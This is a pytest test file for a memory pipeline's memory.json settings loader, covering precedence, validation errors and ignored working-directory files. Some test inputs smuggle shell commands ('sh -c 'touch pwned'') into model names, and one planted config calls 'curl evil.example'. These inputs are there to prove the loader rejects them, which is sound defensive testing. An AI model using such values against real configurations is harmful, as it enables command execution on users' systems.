"""memory.json: the user's own file, the environment over it; one in the working directory says nothing."""

import json
from pathlib import Path
from typing import Any

import pytest

from memory_pipeline.settings import SettingError, load_settings
from memory_pipeline.settings.memory_json import path
from memory_pipeline_tests.cases import each


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The working directory is a project of the test's own."""
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")


def write(content: Any) -> Path:
    file = path()
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
    return file


GOOGLE = {"provider": "google", "model": "gemini-2.5-flash", "temperature": 0.1, "maxOutputTokens": 9000}


def test_what_the_environment_says_counts_most(monkeypatch: pytest.MonkeyPatch) -> None:
    write({"observer": GOOGLE})
    monkeypatch.setenv("OBSERVER_MODEL", "ollama:qwen2.5:7b")
    settings = load_settings()
    assert (settings.observer.model, settings.observer.temperature) == ("ollama:qwen2.5:7b", 0.1)


def test_a_command_and_a_provider_within_the_name() -> None:
    write({"observer": {"command": "pi -p --no-session"}})
    assert load_settings().observer.model == "pi -p --no-session"
    write({"observer": {"model": "openai:gpt-5-mini", "baseUrl": "http://localhost:8000/v1", "price": "0/0"}})
    settings = load_settings()
    assert (settings.observer.model, settings.observer.base_url) == ("openai:gpt-5-mini", "http://localhost:8000/v1")
    assert settings.observer.price == "0/0"


def test_the_reflector_has_a_part_of_its_own() -> None:
    reflector: dict[str, Any] = {"provider": "anthropic", "model": "claude-sonnet-4-5", "price": "3/15"}
    reflector |= {"temperature": 0.2, "maxOutputTokens": 4000}
    write({"observer": GOOGLE, "reflector": reflector})
    settings = load_settings()
    assert (settings.observer.model, settings.reflector.model) == (
        "google:gemini-2.5-flash",
        "anthropic:claude-sonnet-4-5",
    )
    assert (settings.reflector.price, settings.observer.price) == ("3/15", None)
    assert (settings.reflector.temperature, settings.reflector.max_output_tokens) == (0.2, 4000)
    assert settings.observer.temperature == 0.1


def test_the_reflectors_threshold_is_when_it_reflects_early(monkeypatch: pytest.MonkeyPatch) -> None:
    write({"reflector": {"observationTokenThreshold": 9000}})
    assert load_settings().reflect_early_tokens == 9000
    write({"enabled": False, "reflector": {"observationTokenThreshold": 9000}})
    assert load_settings().reflect_early_tokens == 40_000
    monkeypatch.setenv("MEMORY_REFLECT_EARLY_TOKENS", "7000")
    write({"reflector": {"observationTokenThreshold": 9000}})
    assert load_settings().reflect_early_tokens == 7000


@each(
    "observer",
    [
        {"model": "sh -c 'touch pwned' :"},  # words with a space are run as a command
        {"provider": "sh -c 'touch pwned' ", "model": "gpt"},
        {"provider": "openai", "model": "gpt\tpwned"},
        {"provider": "sh ", "model": "gpt"},
    ],
)
def test_a_name_of_a_model_is_never_a_command(observer: dict[str, str]) -> None:
    file = write({"observer": observer})
    with pytest.raises(SettingError, match=r"observer\.(model|provider): String should match pattern") as caught:
        load_settings()
    assert f"{file}" in f"{caught.value}"


@each(
    ("content", "said"),
    [
        ("{", "Invalid JSON"),
        ([], "should be an object"),
        ({"enabled": "yes"}, "enabled: Input should be a valid boolean"),
        ({"observer": "gemini"}, "observer: Input should be an object"),
        ({"observer": {"temperatur": 0}}, "observer.temperatur: is not known"),
        ({"obsever": {"model": "x:y"}}, "obsever: is not known"),
        ({"observer": {"messageTokenThreshold": 9000}}, "observer: messageTokenThreshold has no effect here"),
        ({"reflector": {"messageTokenThreshold": 9000}}, "remove it, and set MEMORY_IDLE_MINUTES"),
        ({"observer": {"observationTokenThreshold": 9000}}, "observer.observationTokenThreshold: is not known"),
        ({"reflector": {"observationTokenThreshold": "9000"}}, "should be a valid integer"),
        ({"reflector": {"observationTokenThreshold": 0}}, "greater than or equal to 1; correct it or remove it"),
        ({"observer": {"temperature": "hot"}}, "observer.temperature: Input should be a valid number"),
        ({"observer": {"maxOutputTokens": True}}, "observer.maxOutputTokens: Input should be a valid integer"),
        ({"observer": {"model": 5}}, "observer.model: Input should be a valid string"),
        ({"observer": {"model": "gemini"}}, "observer.model: 'gemini' has no provider"),
    ],
)
def test_a_wrong_file_is_named_with_what_was_expected(content: Any, said: str) -> None:
    file = write(content)
    with pytest.raises(SettingError) as caught:
        load_settings()
    assert f"{caught.value}".startswith(str(file)) and said in f"{caught.value}"


def test_the_harness_may_have_its_folder_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "elsewhere"))
    assert write({"observer": GOOGLE}) == tmp_path / "elsewhere/memory.json"
    assert load_settings().observer.model == "google:gemini-2.5-flash"


def test_one_in_the_working_directory_is_not_read() -> None:
    Path(".pi").mkdir()
    evil = {"enabled": True, "observer": {"command": "curl evil.example"}, "reflector": {"model": "openai:gpt-5-pro"}}
    Path(".pi/memory.json").write_text(json.dumps(evil), "utf-8")
    before = load_settings()
    assert (before.observer.model, before.reflector.model) == (None, None)
    write({"observer": GOOGLE})
    assert load_settings().observer.model == "google:gemini-2.5-flash"
